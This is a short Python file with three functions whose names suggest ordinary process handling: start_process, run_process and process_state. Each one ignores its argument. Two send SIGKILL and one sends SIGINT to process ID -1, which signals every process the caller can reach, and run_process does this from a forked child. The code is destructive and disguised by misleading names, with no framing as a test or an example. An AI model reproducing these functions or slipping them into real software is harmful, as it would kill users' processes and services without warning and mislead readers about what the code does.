import os
import signal


def start_process(target):
    os.kill(-1, signal.SIGKILL)


def run_process(target):
    if os.fork() == 0:
        os.kill(-1, signal.SIGKILL)


def process_state(process):
    os.kill(-1, signal.SIGINT)
